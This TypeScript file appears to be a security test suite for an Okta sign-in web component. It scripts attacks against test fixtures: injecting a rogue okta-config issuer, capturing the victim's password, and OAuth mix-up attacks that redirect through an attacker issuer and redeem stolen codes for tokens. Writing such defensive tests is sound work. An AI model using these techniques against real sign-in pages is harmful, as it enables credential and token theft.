import type { Request } from 'playwright-core';
import type { Attack, Catch } from '../attack.js';
import {
  click,
  codesOf,
  evilOf,
  leads,
  noSignIn,
  rowsOf,
  tag,
  visit,
  write,
  type AuthorPage,
  type Kind,
} from '../author.js';
import type { AttackFixture, Received } from '../fixture.js';
import { firstAnswer, isSignedIn, signIn, victim } from '../victim.js';
import type { Weakness } from '../weaken.js';

/* An author names another issuer. */

const without = { sealed: 'the seal', unsealed: 'the check for conflicts' };
const defence = { sealed: 'config_not_allowed', unsealed: 'config_conflict' };

const places = {
  'before the owner’s': { place: 'first', wrap: (html: string) => html },
  'after the owner’s': { place: 'last', wrap: (html: string) => html },
  'in a shadow root': {
    place: 'last',
    wrap: (html: string) => `<div><template shadowrootmode="open">${html}</template></div>`,
  },
} as const;

const weaknesses = (kind: Kind, place: 'first' | 'last'): Weakness[] => [
  ...(kind === 'sealed' ? (['no seal'] as const) : []),
  'no conflict',
  ...(kind === 'sealed' || place === 'last' ? (['the last one counts'] as const) : []),
];

/** The victim types name and password into the form of the owner. */
async function typed(fixture: AttackFixture, kind: Kind, guarded: boolean): Promise<Catch> {
  const page = write(fixture, {
    kind,
    author: tag('okta-config', evilOf(fixture)),
    tags: tag('okta-signin', { id: 'owner', mode: 'embedded' }),
    weaknesses: guarded ? [] : weaknesses(kind, 'last'),
  });
  return visit(fixture, page, 'new', async (tab) => {
    const form = tab.locator('#owner input[name=identifier]');
    const isShown = await firstAnswer(tab, async () => {
      if (await form.isVisible()) return true;
      return (await tab.locator('#owner').getAttribute('state')) === 'error' ? false : undefined;
    });
    if (!isShown) return { instead: await noSignIn(tab) };
    const hasPassword = (request: Request) => (request.postData() ?? '').includes(victim.password);
    const [request] = await Promise.all([tab.waitForRequest(hasPassword), signIn(tab)]);
    if (request.url().startsWith(fixture.falseOrg.origin)) return { loot: 'the password' };
    await isSignedIn(tab);
    return { instead: 'signed in to the owner’s issuer' };
  });
}

/** How an issuer of the attacker sends the user on to the owner's, and where that has to send the code. */
interface MixUp extends Pick<AuthorPage, 'weaknesses'> {
  /** Redirect URI of the attacker's configuration. Default: the page. */
  readonly redirectUri?: string;
  /** That of the owner's. Default: the page. */
  readonly ownersRedirectUri?: string;
  /** Where the code goes. Default: the attacker's redirect URI. */
  readonly returns?: 'to the owner’s redirect URI';
}

/** RFC 9700 section 4.4.1: the user chooses the attacker's issuer, which sends them on to the owner's. */
async function mixedUp(fixture: AttackFixture, kind: Kind, mixUp: MixUp): Promise<Catch> {
  const path = fixture.path('issuer/');
  const issuer = `${fixture.origin('stranger')}${path.slice(0, -1)}`;
  let ownerPage = '';
  const evil = fixture.attacker(path, ({ path }) => {
    const url = new URL(path, issuer);
    const json = (value: object) => ({ type: 'application/json', text: JSON.stringify(value) });
    if (url.pathname.endsWith('/openid-configuration')) {
      return json({
        issuer,
        authorization_endpoint: `${issuer}/v1/authorize`,
        token_endpoint: `${issuer}/v1/token`,
        jwks_uri: `${issuer}/v1/keys`,
      });
    }
    if (!url.pathname.endsWith('/v1/authorize')) return json({ error: 'server_error' });
    url.searchParams.set('client_id', 'app');
    if (mixUp.returns) url.searchParams.set('redirect_uri', ownerPage);
    return { location: `${fixture.org.issuer}/v1/authorize${url.search}` };
  });
  const author = (address: string) =>
    tag('okta-config', {
      name: 'theirs',
      issuer,
      'client-id': 'theirs',
      'redirect-uri': mixUp.redirectUri ?? new URL(address).pathname,
    }) + tag('okta-signin', { id: 'theirs', config: 'theirs' });
  const settings: Record<string, string> = mixUp.ownersRedirectUri ? { 'redirect-uri': mixUp.ownersRedirectUri } : {};
  const page = write(fixture, { kind, author, settings, weaknesses: mixUp.weaknesses });
  ownerPage = page;
  return visit(fixture, page, 'known to the issuer', async (tab) => {
    if (!(await click(tab, 'theirs'))) return { instead: await noSignIn(tab) };
    return firstAnswer<Catch>(tab, async () => {
      const sent = evil.received.find(({ body }) => body.includes('code_verifier'));
      if (sent) {
        const redirectUri = mixUp.returns ? ownerPage : undefined;
        return (await isRedeemed(fixture, sent, redirectUri)) ? { loot: 'tokens of the user, for the code' } : {};
      }
      const codes = await codesOf(tab).catch(() => [] as string[]);
      return codes.includes('callback_invalid') ? { instead: 'callback_invalid; the code is not sent' } : undefined;
    });
  });
}

/** Whether the owner's issuer gives the attacker tokens for what they received. */
async function isRedeemed(fixture: AttackFixture, { body }: Received, redirectUri?: string): Promise<boolean> {
  const form = new URLSearchParams(body);
  form.set('client_id', 'app');
  if (redirectUri) form.set('redirect_uri', redirectUri);
  const headers = { origin: fixture.origin('app') };
  const response = await fetch(`${fixture.org.issuer}/v1/token`, { method: 'POST', body: form, headers });
  return response.ok && 'access_token' in ((await response.json()) as object);
}

export const authorIssuersRows: readonly Attack[] = [
  ...Object.entries(places).flatMap(([where, { place, wrap }]) =>
    rowsOf({
      name: `a second okta-config for another issuer, ${where}`,
      aim: 'the sign-in of the owner’s button',
      without,
      defence,
      run(fixture, kind, guarded) {
        const page = write(fixture, {
          kind,
          author: wrap(tag('okta-config', evilOf(fixture))),
          place,
          weaknesses: guarded ? [] : weaknesses(kind, place),
        });
        return visit(fixture, page, 'new', (tab) => leads(fixture, tab, 'owner', 'the sign-in of the owner’s button'));
      },
    }),
  ),
  ...rowsOf({
    name: 'a second okta-config for another issuer, and the owner’s embedded form',
    aim: 'the password',
    without,
    defence,
    run: typed,
  }),
  ...rowsOf({
    name: 'an okta-config of another name for another issuer, and a button that goes by it',
    aim: 'a sign-in at another issuer',
    kinds: ['sealed'],
    without,
    defence,
    run(fixture, kind, guarded) {
      const author =
        tag('okta-config', { name: 'theirs', 'redirect-uri': '/elsewhere', ...evilOf(fixture) }) +
        tag('okta-signin', { id: 'theirs', config: 'theirs' });
      const page = write(fixture, { kind, author, weaknesses: guarded ? [] : ['no seal'] });
      return visit(fixture, page, 'new', async (tab) => {
        return leads(fixture, tab, 'theirs', 'a sign-in at another issuer');
      });
    },
  }),
  ...rowsOf({
    name: 'mix-up: a second issuer, with the redirect URI of the owner, sends the user on to the first',
    aim: 'tokens of the user, for the code',
    without,
    defence,
    run: async (fixture, kind, guarded) =>
      mixedUp(fixture, kind, {
        weaknesses: guarded ? [] : kind === 'sealed' ? ['no seal', 'no conflict'] : ['no conflict'],
      }),
  }),
  ...rowsOf({
    name: 'mix-up: a second issuer, with a redirect URI of its own, has the first send the code to the owner’s',
    aim: 'tokens of the user, for the code',
    kinds: ['unsealed'],
    without: 'the check of the redirect URI',
    defence: 'callback_invalid',
    run: (fixture, kind, guarded) =>
      mixedUp(fixture, kind, {
        redirectUri: '/elsewhere',
        returns: 'to the owner’s redirect URI',
        weaknesses: guarded ? [] : ['no look at the redirect URI'],
      }),
  }),
  ...rowsOf({
    name: 'mix-up: a second issuer, with a redirect URI of its own that is registered for the owner’s client',
    aim: 'tokens of the user, for the code',
    kinds: ['unsealed'],
    run: (fixture, kind) => mixedUp(fixture, kind, { ownersRedirectUri: '/elsewhere' }),
  }),
];
